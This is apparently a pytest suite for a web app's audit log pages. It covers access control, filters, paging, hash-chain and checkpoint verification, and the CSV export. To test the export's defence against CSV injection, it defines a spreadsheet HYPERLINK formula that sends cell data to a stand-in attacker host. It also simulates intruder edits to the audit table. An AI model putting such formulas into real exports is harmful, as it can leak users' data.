"""The Board's audit log pages: who may open them, filters, paging, verification and the CSV export."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from sqlalchemy import select, text

from tacase.audit.canonical import canonical_bytes
from tacase.db.models import AuditEvent, User
from tacase.services import accounts, cases
from tacase.services.actors import SYSTEM, Actor
from tacase.web.views import audit_pages
from tests.api.conftest import PASSWORD, complete_fields
from tests.web.conftest import sign_in

SEQ = re.compile(r'<td class="seq">(\d+)')
NEXT = re.compile(r'<a href="([^"]+)" rel="next">')
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def text_of(response) -> str:
    return response.get_data(as_text=True)


def seqs(response) -> list[int]:
    return [int(n) for n in SEQ.findall(text_of(response))]


@pytest.fixture
def board(client, seeded, api_clock):
    assert sign_in(client, seeded.board, totp=seeded.board.code(api_clock)).status_code == 302
    return client


def events_in_db(app, **where) -> list[AuditEvent]:
    with app.extensions["tacase"]["sessions"]() as s:
        query = select(AuditEvent).order_by(AuditEvent.seq)
        for name, value in where.items():
            query = query.where(getattr(AuditEvent, name) == value)
        return list(s.scalars(query))


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_of(response))))


# --- who may open the pages -----------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/audit", "/audit.csv"])
def test_focal_points_and_reviewers_are_refused(client, seeded, api_clock, path):
    sign_in(client, seeded.fiji)
    response = client.get(path)
    assert response.status_code == 403 and "Not open to your account" in text_of(response)
    client.post("/sign-out", data={"csrf_token": re.search(
        r'name="csrf_token" type="hidden" value="([^"]+)"', text_of(client.get("/"))).group(1)})
    sign_in(client, seeded.reviewer, totp=seeded.reviewer.code(api_clock))
    assert client.get(path).status_code == 403


def test_anonymous_callers_are_sent_to_sign_in(client, seeded):
    response = client.get("/audit?case=X")
    assert response.status_code == 302 and response.headers["Location"].startswith("/sign-in?next=/audit")


# --- the page ----------------------------------------------------------------------------------------

def test_the_board_sees_every_event_and_the_chain_verifies(app, board):
    response = board.get("/audit")
    html = text_of(response)
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    everything = events_in_db(app)
    assert seqs(response) == [e.seq for e in everything]
    assert f"The chain of {len(everything)} events verifies" in html
    assert "Time (Europe/Zurich)" in html and "2 March 2026, 10:" in html  # 09:xx UTC in Geneva
    assert "board@example.org" in html and "auth.login" in html
    assert "<caption>" in html and 'scope="col"' in html
    assert "<script" not in html and "style=" not in html
    for name in ("case", "actor", "action", "since", "until"):
        assert f'<label class="label" for="{name}">' in html


def test_case_references_link_to_the_case_and_each_event_is_told_in_a_sentence(board, seeded):
    html = text_of(board.get(f"/audit?case={seeded.fiji_returned}"))
    reference = seeded.fiji_returned
    assert f'<a href="/cases/{reference}">{reference}</a>' in html
    for sentence in (f"opened the request {reference} for Fiji.",
                     f"sent Fiji&#39;s request {reference} to OHCHR.",
                     f"Reviewer reviewer asked Fiji for information on {reference}. Reply due "):
        assert sentence in html, sentence
    # The action by its name; the recorded codes only inside "Show the recorded event".
    assert "<td>Step of a request</td>" in html and "<td>Request opened</td>" in html
    table = html.split("<table", 1)[1]
    visible = re.sub(r'<details class="raw-record">.*?</details>', "", table, flags=re.S)
    raw = table.split("<summary>", 1)[1]
    assert "case.transition" not in visible and "return_to_state" not in visible
    assert "Show the recorded event" in html
    assert "<dt>trigger</dt><dd><code>return_to_state</code></dd>" in raw
    assert "<dt>action</dt><dd><code>case.transition</code></dd>" in raw


def test_filters_narrow_the_rows(app, board, seeded):
    with app.extensions["tacase"]["sessions"]() as s:
        returned_id = s.scalar(select(AuditEvent.case_id).where(AuditEvent.action == "case.created")
                               .order_by(AuditEvent.seq))
        samoa_id = s.scalar(select(User.id).where(User.email == seeded.samoa.email))
    by_case = seqs(board.get(f"/audit?case={seeded.fiji_returned}"))
    assert by_case and by_case == [e.seq for e in events_in_db(app, case_id=returned_id)]

    by_email = seqs(board.get("/audit", query_string={"actor": seeded.samoa.email.upper()}))
    by_number = seqs(board.get(f"/audit?actor={samoa_id}"))
    assert by_email == by_number == [e.seq for e in events_in_db(app, actor_id=samoa_id)]
    assert len(by_email) == 2  # opened a case, submitted it

    logins = seqs(board.get("/audit?action=auth."))
    assert logins == [e.seq for e in events_in_db(app) if e.action.startswith("auth.")]
    exact = seqs(board.get("/audit?action=case.created"))
    assert exact == [e.seq for e in events_in_db(app, action="case.created")] and len(exact) == 3
    assert seqs(board.get("/audit?action=case.")) != exact  # a prefix takes the transitions too

    everything = [e.seq for e in events_in_db(app)]
    assert seqs(board.get("/audit?since=2026-03-02&until=2026-03-02")) == everything
    assert seqs(board.get("/audit?since=2026-03-03")) == []
    response = board.get("/audit?until=2026-03-01")
    assert seqs(response) == [] and "No event matches these filters." in text_of(response)
    assert seqs(board.get("/audit?case=UNKNOWN-REF")) == []


@pytest.mark.parametrize(("query", "field", "message"), [
    ("since=2026-13-45", "since", "Enter a date as year-month-day"),
    ("until=yesterday", "until", "Enter a date as year-month-day"),
    ("since=2026-03-05&until=2026-03-01", "until", "The end date is before the start date."),
    ("actor=nobody@example.org", "actor", "No account has this e-mail address or number."),
    ("action=Auth%20Login", "action", "Choose what happened from the list."),
])
def test_bad_filters_are_said_next_to_the_field(board, query, field, message):
    for path in ("/audit", "/audit.csv"):
        response = board.get(f"{path}?{query}")
        html = text_of(response)
        assert response.status_code == 422 and response.mimetype == "text/html"
        assert f'id="{field}-error"' in html and message in html
        assert 'class="error-summary"' in html and seqs(response) == []
        assert "The chain of" in html  # the rest of the page is there


def test_a_bad_page_link_is_refused(board):
    assert board.get("/audit?after=-3").status_code == 400
    assert board.get("/audit?after=abc").status_code == 400
    assert board.get("/audit?after=²").status_code == 400
    assert board.get("/audit?actor=²").status_code == 422


def test_paging_shows_every_event_once_and_keeps_the_filters(app, board, monkeypatch):
    monkeypatch.setattr(audit_pages, "PAGE_SIZE", 4)
    everything = [e.seq for e in events_in_db(app)]
    assert len(everything) > 8
    seen, url, pages = [], "/audit?since=2026-03-02", 0
    while url:
        response = board.get(url)
        assert response.status_code == 200
        page = seqs(response)
        assert 0 < len(page) <= 4
        seen += page
        pages += 1
        found = NEXT.search(text_of(response))
        url = found.group(1).replace("&amp;", "&") if found else None
        if url:
            assert "since=2026-03-02" in url and f"after={page[-1]}" in url
    assert seen == everything and len(set(seen)) == len(seen)
    assert pages == -(-len(everything) // 4)


def test_a_tampered_event_breaks_the_chain_where_it_was_edited(app, board):
    target = events_in_db(app, action="case.created")[1]
    body = json.loads(target.body)
    body["data"]["fields"]["title"] = "Something else entirely"
    with app.extensions["tacase"]["engine"].begin() as conn:
        # As an intruder would: past the append-only triggers PostgreSQL has.
        postgresql = conn.dialect.name == "postgresql"
        if postgresql:
            conn.execute(text("ALTER TABLE audit_events DISABLE TRIGGER USER"))
        conn.execute(text("UPDATE audit_events SET body = :body WHERE seq = :seq"),
                     {"body": canonical_bytes(body), "seq": target.seq})
        if postgresql:
            conn.execute(text("ALTER TABLE audit_events ENABLE TRIGGER USER"))
    html = text_of(board.get("/audit"))
    assert f"The chain is broken at event {target.seq}: its content no longer matches its hash." in html
    assert f"The {target.seq - 1} events before it verify." in html
    assert "Broken." in html and "(chain broken here)" in html
    assert "verifies" not in html


def test_an_edit_found_by_the_nightly_verification_shows_though_later_events_verify(app, board, api_clock):
    from tacase.jobs.tasks import verify_audit

    sessions = app.extensions["tacase"]["sessions"]
    verify_audit(sessions, api_clock, full=False)  # a checkpoint at the head
    target = events_in_db(app, action="case.created")[0]
    with app.extensions["tacase"]["engine"].begin() as conn:
        if conn.dialect.name == "postgresql":
            conn.execute(text("ALTER TABLE audit_events DISABLE TRIGGER USER"))
        conn.execute(text("UPDATE audit_events SET actor_id = 4242 WHERE seq = :seq"), {"seq": target.seq})
        if conn.dialect.name == "postgresql":
            conn.execute(text("ALTER TABLE audit_events ENABLE TRIGGER USER"))
    assert "Verified." in text_of(board.get("/audit"))  # the events after the checkpoint do
    assert not verify_audit(sessions, api_clock, full=True).ok  # the night's run
    html = text_of(board.get("/audit"))
    assert "Broken." in html and "Verified." not in html
    assert (f"found it broken at event {target.seq}: its searchable columns disagree with its content"
            in html)


# --- the CSV export -----------------------------------------------------------------------------------

def test_the_csv_has_a_row_per_filtered_event_and_is_an_attachment(app, board, seeded):
    shown = seqs(board.get(f"/audit?case={seeded.fiji_returned}"))
    page = text_of(board.get(f"/audit?case={seeded.fiji_returned}"))
    assert f'href="/audit.csv?case={seeded.fiji_returned}"' in page
    response = board.get(f"/audit.csv?case={seeded.fiji_returned}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="tacase-audit-\d{8}T\d{6}Z\.csv"',
                        response.headers["Content-Disposition"])
    assert response.headers["Cache-Control"] == "no-store"
    rows = csv_rows(response)
    assert rows[0] == ["seq", "occurred_at", "actor_id", "actor_email", "action", "case_reference", "data",
                       "hash", "prev_hash"]
    assert [int(r[0]) for r in rows[1:]] == shown
    stored = {e.seq: e for e in events_in_db(app)}
    for row in rows[1:]:
        event = stored[int(row[0])]
        assert row[1].endswith("Z") and row[1].startswith("2026-03-02T09:")
        assert row[4] == event.action and row[5] == seeded.fiji_returned
        assert row[7] == event.hash and row[8] == event.prev_hash
        assert json.loads(row[6]) == json.loads(event.body)["data"]
        assert row[6].encode() == canonical_bytes(json.loads(event.body)["data"])


def test_the_export_is_recorded_with_its_filters_and_the_chain_still_verifies(app, board):
    before = events_in_db(app)
    rows = csv_rows(board.get("/audit.csv?action=auth.&since=2026-03-02"))
    after = events_in_db(app)
    assert len(after) == len(before) + 1
    exported = after[-1]
    assert exported.action == "audit.exported"
    data = json.loads(exported.body)["data"]
    assert data["filters"]["action"] == "auth." and data["filters"]["at_from"].startswith("2026-03-01T23:00")
    assert exported.seq not in [int(r[0]) for r in rows[1:]]  # the log as it was when asked for
    assert f"The chain of {len(after)} events verifies" in text_of(board.get("/audit"))


def test_the_csv_neutralises_formulas(app, board, api_clock):
    with app.extensions["tacase"]["sessions"]() as s:
        user = accounts.create_user(s, SYSTEM, api_clock, email=f"{FORMULA}@example.org".replace(" ", ""),
                                    roles=["state_focal_point"], password=PASSWORD, state_code="FJI")
        cases.open_draft(s, Actor.for_user(user), api_clock, type="upr_fund",
                         fields={**complete_fields(), "title": FORMULA})
        s.commit()
        user_id = user.id
    rows = csv_rows(board.get(f"/audit.csv?actor={user_id}"))
    assert len(rows) == 2
    email = rows[1][3]  # addresses are kept in small letters
    assert email.startswith("'=hyperlink(") and email[1:] == f"{FORMULA}@example.org".replace(" ", "").lower()
    assert json.loads(rows[1][6])["fields"]["title"] == FORMULA  # inside JSON: left as it was
    for row in rows:
        assert not any(cell.startswith(audit_pages.FORMULA_STARTS) for cell in row)


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), (None, ""), (12, "12"), ("a=b", "a=b"),
])
def test_csv_cells(value, cell):
    assert audit_pages.csv_cell(value) == cell


def test_the_form_sent_empty_shows_everything_and_its_links_carry_no_empty_filters(app, board):
    response = board.get("/audit?case=&actor=+&action=&since=&until=")
    html = text_of(response)
    assert response.status_code == 200
    assert seqs(response) == [e.seq for e in events_in_db(app)]
    assert 'href="/audit.csv"' in html and "All events, in sequence order" in html


# --- the signed checkpoint ------------------------------------------------------------------------------

def test_the_latest_signed_checkpoint_shows_and_says_whether_it_verifies(app, board, api_clock, tmp_path):
    from tacase.audit import checkpoints, signing

    assert "No checkpoint has been signed yet." in text_of(board.get("/audit"))
    key = signing.new_key_file(tmp_path / "key.pem")
    with app.extensions["tacase"]["sessions"]() as s:
        checkpoint, _ = checkpoints.sign_head(s, key, api_clock())
        s.commit()
    html = text_of(board.get("/audit"))
    assert (f"On 2 March 2026, 10:00 the log up to event {checkpoint.sequence} was signed with the key "
            f"{checkpoint.key_id}, kept outside the database.") in html
    assert "Verifies." in html and 'href="/public/audit/checkpoints"' in html
    with app.extensions["tacase"]["engine"].begin() as conn:
        if conn.dialect.name == "postgresql":
            conn.execute(text("ALTER TABLE audit_events DISABLE TRIGGER USER"))
        conn.execute(text("DELETE FROM audit_events WHERE seq > :seq"), {"seq": checkpoint.sequence - 2})
        if conn.dialect.name == "postgresql":
            conn.execute(text("ALTER TABLE audit_events ENABLE TRIGGER USER"))
    html = text_of(board.get("/audit"))
    assert "Does not verify." in html and "Verifies." not in html
    assert (f"The log now ends at event {checkpoint.sequence - 2}, but the signed checkpoint covers event "
            f"{checkpoint.sequence}: events were removed from its end.") in html
